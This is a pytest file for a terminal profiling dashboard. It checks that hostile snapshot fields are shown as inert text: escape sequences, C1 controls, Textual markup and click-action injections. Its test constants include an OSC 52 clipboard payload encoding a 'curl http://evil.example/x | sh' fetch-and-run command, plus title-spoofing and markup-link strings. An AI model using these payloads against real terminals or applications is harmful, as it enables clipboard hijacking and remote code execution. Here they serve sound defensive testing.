"""Hostile snapshots on screen: no escape sequence reaches the terminal, no string is markup.

A snapshot is a file from anyone. Its token text, kernel roles, bound-by, prompt, checkpoint,
backend and gpu fields carry OSC 52 (clipboard), OSC 0 (window title), CSI (clear screen), C1
controls and Textual markup; the app renders them as visible text, in the SVG screenshot, in the
real terminal stream (a pty) and in the headless report alike.
"""

from __future__ import annotations

import dataclasses
import html
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from conftest import read_pty
from fixtures.appkit import SNAPSHOT, isolated_config, sync  # noqa: F401  (fixture)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tfdash.errors import SnapshotError
from tfdash.profiling.export import dumps_snapshot, load_snapshot, loads_snapshot
from tfdash.textsafe import KEEP_LAYOUT, has_control, visible

REPO = Path(__file__).resolve().parents[1]
SIZE = (160, 48)
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"  # "curl http://evil.example/x | sh"
OSC0 = "\x1b]0;PWNED\x07"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
MARKUP = "[link=https://evil.example][reverse blink]/models/Qwen3 (verified)[/][/link]"
HOSTILE = [OSC52, OSC0, CLEAR, C1_CSI, MARKUP, "[@click=app.quit]x[/]", "[/ft]", "/models/qwen3[v2]",
           "".join(chr(c) for c in range(0x20)) + "\x7f" + "".join(chr(c) for c in range(0x80, 0xA0)),
           "\u202egnp.exe", "x" * 3000]
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what an SVG or a screen line must not hold


def hostile_snapshot(text: str = "".join(HOSTILE)):
    snap = load_snapshot(SNAPSHOT)
    meta = dataclasses.replace(snap.meta, prompt="prompt " + text, checkpoint="/models/qwen3[v2]/" + text,
                               backend="tilelang-graph" + OSC0, gpu="H200" + OSC52)
    kernels = tuple(dataclasses.replace(k, role=k.role + (text if i % 7 == 0 else HOSTILE[i % len(HOSTILE)]),
                                        bound_by=k.bound_by + CLEAR, kernel=k.kernel + C1_CSI)
                    for i, k in enumerate(snap.kernels))
    tokens = tuple(dataclasses.replace(t, text=HOSTILE[i % len(HOSTILE)] if i % 3 == 0 else t.text)
                   for i, t in enumerate(snap.tokens))
    unavailable = {"nvml": "gone" + OSC52 + MARKUP}
    return dataclasses.replace(snap, meta=meta, kernels=kernels, tokens=tokens, unavailable=unavailable,
                               marginal=({"what": "L0.gate_up" + OSC0, "delta_ns": 15230.0,
                                          "note": MARKUP + CLEAR},))


def screen_text(svg: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", svg)).replace("\xa0", " ")


# -- the sanitizer ---------------------------------------------------------------------------------

def test_visible_replaces_every_control_character_and_keeps_the_length():
    raw = "".join(chr(c) for c in range(0x20)) + "\x7f" + "".join(chr(c) for c in range(0x80, 0xA0)) + "\u202e"
    out = visible(raw)
    assert len(out) == len(raw) and not has_control(out)
    assert visible("\x1b]0;x\x07") == "␛]0;x␇"
    assert visible("a\tb\nc", KEEP_LAYOUT) == "a\tb\nc"
    assert visible("a\tb\nc") == "a␉b␊c"
    assert visible("plain [b]text[/b]") == "plain [b]text[/b]"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(max_codepoint=0x2100), max_size=40))
def test_visible_never_leaves_a_control_character(text):
    out = visible(text, KEEP_LAYOUT)
    assert len(out) == len(text)
    assert not CONTROL.search(out.replace("\t", "").replace("\n", ""))


# -- the snapshot loader refuses what the screens cannot take ---------------------------------------

def _doc(**changes) -> str:
    import json

    raw = json.loads(dumps_snapshot(load_snapshot(SNAPSHOT)))
    for path, value in changes.items():
        node = raw
        *head, last = path.split("__")
        for k in head:
            node = node[int(k)] if isinstance(node, list) else node[k]
        node[int(last) if isinstance(node, list) else last] = value
    return json.dumps(raw)


@pytest.mark.parametrize("path,value,needle", [
    ("unavailable", {"nvml": 3}, "unavailable["),
    ("unavailable", {"nvml": {"a": 1}}, "unavailable["),
    ("wall_ns", -5, "wall_ns"),
    ("step_ns", [100, -1], "step_ns"),
    ("kernels__0__measured_p50_ns", -3.0, "measured_p50_ns"),
    ("kernels__0__predicted_ns", -3.0, "predicted_ns"),
    ("tokens__0__elapsed_ns", -1, "elapsed_ns"),
    ("timeline__0__dur_ns", -1, "dur_ns"),
    ("ttft_ns", -1, "ttft_ns"),
    ("prefill_ns", -2_000_000, "prefill_ns"),  # else the Throughput pane read "-2.00 ms prompt in chunks"
    ("prefill_positions", -12, "prefill_positions"),
])
def test_values_the_screens_cannot_take_are_refused(path, value, needle):
    with pytest.raises(SnapshotError) as e:
        loads_snapshot(_doc(**{path: value}), "bad.json")
    assert needle in str(e.value) and "\n" not in str(e.value)


def test_a_deep_marginal_is_refused_quickly():
    """950 levels: json's encoder and parser recurse, so they fit under Python's recursion limit
    (1000) only on a short stack; the test runs in a thread of its own, as a pytest-xdist worker's
    stack is some 40 frames deeper than pytest's (json.dumps raised RecursionError there)."""
    said = {}

    def refuse():
        deep: dict = {}
        node = deep
        for _ in range(950):
            node["x"] = {}
            node = node["x"]
        t0 = time.monotonic()
        try:
            loads_snapshot(_doc(marginal=[deep]), "deep.json")
        except Exception as e:  # noqa: BLE001  (asserted on below, in the test's thread)
            said["error"] = e
        said["took"] = time.monotonic() - t0

    thread = threading.Thread(target=refuse)
    thread.start()
    thread.join()
    assert isinstance(said.get("error"), SnapshotError), said
    assert said["took"] < 2 and "marginal" in str(said["error"])


def test_the_hostile_snapshot_round_trips():
    snap = hostile_snapshot()
    assert loads_snapshot(dumps_snapshot(snap)) == snap


# -- on screen --------------------------------------------------------------------------------------

MAIN_KEYS = ["g", "g", "s", "S", "slash", "L", "0", "escape", "enter", "1", "2", "3", "m", "escape",
             "question_mark", "escape", "space", "p", "r", "e", "c", "t"]


@sync
async def test_hostile_strings_render_as_visible_text(isolated_config, tmp_path):
    from tfdash.app.main import snapshot_app

    path = tmp_path / "hostile.json"
    path.write_text(dumps_snapshot(hostile_snapshot()), encoding="utf-8")
    app = snapshot_app(path, export_dir=tmp_path / "out", tilelang_source=lambda fam: f"# {fam}\n",
                       cuda_source=lambda launch: "// cuda\n")
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await pilot.pause()
        svgs = [app.export_screenshot()]
        for key in MAIN_KEYS:
            await pilot.press(key)
            await pilot.pause()
            svgs.append(app.export_screenshot())
        assert app.is_running  # the @click action in a role did not quit it
    assert app.return_code in (0, None)
    for svg in svgs:
        assert not CONTROL.search(svg), repr(CONTROL.search(svg))
    first = screen_text(svgs[0])
    assert "qwen3[v2]" in first  # shown as typed, not eaten as markup
    assert "␛]52;c;" in first or "␛]0;PWNED" in first
    assert "[link=" in first or "[reverse blink]" in first
    written = sorted(p.suffix for p in (tmp_path / "out").iterdir())
    assert written == [".csv", ".json", ".json"], written  # e, c and t
    for exported in (tmp_path / "out").iterdir():  # JSON escapes controls; the CSV shows them
        assert not CONTROL.search(exported.read_text(encoding="utf-8").replace("\n", "")), exported.name


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                   HealthCheck.function_scoped_fixture])
@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=12), min_size=1, max_size=4),
       st.lists(st.sampled_from(["g", "s", "enter", "escape", "question_mark", "slash", "x", "escape"]),
                max_size=6))
def test_fuzzed_hostile_snapshots_render_without_a_traceback(isolated_config, parts, keys):
    import asyncio

    from tfdash.app.main import snapshot_app

    snap = loads_snapshot(dumps_snapshot(hostile_snapshot("".join(parts))))

    async def go():
        app = snapshot_app(snap, tilelang_source=lambda fam: "#\n", cuda_source=lambda launch: "//\n")
        async with app.run_test(size=(120, 40), notifications=True) as pilot:
            await pilot.pause()
            for key in keys:
                await pilot.press(key)
            await pilot.pause()
            svg = app.export_screenshot()
        assert not CONTROL.search(svg)
        assert app.return_code in (0, None)

    asyncio.run(go())


# -- through a real terminal -----------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="a pty")
def test_tfdash_open_on_a_pty_sends_no_hostile_sequence(tmp_path):
    import pty

    from test_app_terminal import _plain

    path = tmp_path / "hostile.json"
    path.write_text(dumps_snapshot(hostile_snapshot()), encoding="utf-8")
    master, slave = pty.openpty()
    env = {**os.environ, "TFDASH_CONFIG_DIR": str(tmp_path / "cfg"), "TERM": "xterm-256color",
           "COLUMNS": "160", "LINES": "48", "PYTHONPATH": str(REPO)}
    p = subprocess.Popen([sys.executable, "-m", "tfdash", "open", str(path)], stdin=slave, stdout=slave,
                         stderr=slave, cwd=REPO, env=env, close_fds=True)
    os.close(slave)
    buf = bytearray()

    def drain(seconds: float) -> None:
        read_pty(master, buf, seconds)

    try:
        end = time.monotonic() + 60
        while "tok/s now" not in _plain(buf) and time.monotonic() < end and p.poll() is None:
            drain(0.5)
        for key in (b"g", b"\r", b"\x1b", b"?", b"\x1b"):
            os.write(master, key)
            drain(0.7)
        os.write(master, b"q")
        end = time.monotonic() + 30
        while p.poll() is None and time.monotonic() < end:
            drain(0.3)
        rc = p.wait(timeout=5)
        drain(0.5)
    finally:
        if p.poll() is None:
            p.kill()
        os.close(master)
    assert "tok/s now" in _plain(buf), bytes(buf[-2000:])  # the dashboard drew its panes
    assert rc == 0
    for raw in (OSC52, OSC0, C1_CSI, "\x1b[2J\x1b[H"):
        assert raw.encode() not in buf, raw
    assert b"\x1b]52" not in buf and b"PWNED\x07" not in buf and b"\xc2\x9b" not in buf
    assert b"Traceback" not in buf


# -- headless --------------------------------------------------------------------------------------

def test_headless_report_shows_controls_as_text(one_thread):
    from conftest import run_tfdash

    r = run_tfdash("--headless", "--model", "qwen3-tiny", "--device", "cpu", "--max-new-tokens", "4",
                   "--prompt", "hi " + OSC52 + OSC0 + C1_CSI + " tab\there\nline")
    assert r.rc == 0, r.stderr
    for stream in (r.stdout, r.stderr):
        assert not CONTROL.search(stream.replace("\t", "").replace("\n", "")), repr(stream[:300])
    assert "␛]52;c;" in r.stdout and "tab\there\nline" in r.stdout


@sync
async def test_a_snapshot_whose_model_disagrees_with_its_rows_builds_no_plan(isolated_config):
    """meta.model claims ten million layers: Enter opens the drill-down at once, which says the
    plan could not be rebuilt, instead of sizing up to 16 plans by the claim."""
    from tfdash.app.main import snapshot_app

    snap = load_snapshot(SNAPSHOT)
    model = {**snap.meta.model, "num_layers": 10_000_000}
    snap = dataclasses.replace(snap, meta=dataclasses.replace(snap.meta, model=model))
    app = snapshot_app(loads_snapshot(dumps_snapshot(snap)), tilelang_source=lambda fam: "#\n")
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        t0 = time.monotonic()
        await pilot.press("enter")
        await pilot.pause()
        assert time.monotonic() - t0 < 10
        assert "could not be rebuilt" in screen_text(app.export_screenshot())


@sync
async def test_the_live_dashboard_on_a_hostile_checkpoint_path(isolated_config, one_thread):
    """A checkpoint path holding `[/ft]`, a @click action and OSC 0 is shown as typed while the
    live dashboard decodes (it used to crash it)."""
    from tfdash.app.main import live_app, make_session
    from tfdash.engine import load_engine
    from tfdash.profiling.probe import CPU

    engine = dataclasses.replace(load_engine(model="qwen3-tiny", device="cpu", capacity=4096),
                                 source="/models/ck[/ft][@click=app.quit]x" + OSC0)
    app = live_app(lambda status: make_session(engine, "The GPU" + OSC52, 24, target=CPU), max_new_tokens=24)
    async with app.run_test(size=SIZE) as pilot:
        end = time.monotonic() + 60
        while app.state != "done" and time.monotonic() < end:
            await pilot.pause(0.05)
        assert app.state == "done" and app.is_running
        svg = app.export_screenshot()
    assert not CONTROL.search(svg)
    text = screen_text(svg)
    assert "ck[/ft][@click=app.quit]x␛]0;PWNED␇" in text and "The GPU␛]52;c;" in text


@sync
async def test_a_screen_toast_is_never_markup(isolated_config):
    """Screens' notify passes markup=True to the app; untrusted text in it (a role) stays text."""
    from tfdash.app.main import snapshot_app

    app = snapshot_app(SNAPSHOT, tilelang_source=lambda fam: "#\n")
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await pilot.pause()
        app.screen.notify("marginal L0.x[/ft]: [b]unavailable[/b] " + OSC0, timeout=30)
        await pilot.pause(0.3)
        svg = app.export_screenshot()
        assert app.is_running
    assert not CONTROL.search(svg)
    assert "[/ft]:" in screen_text(svg) and "[b]unavailable[/b]" in screen_text(svg)
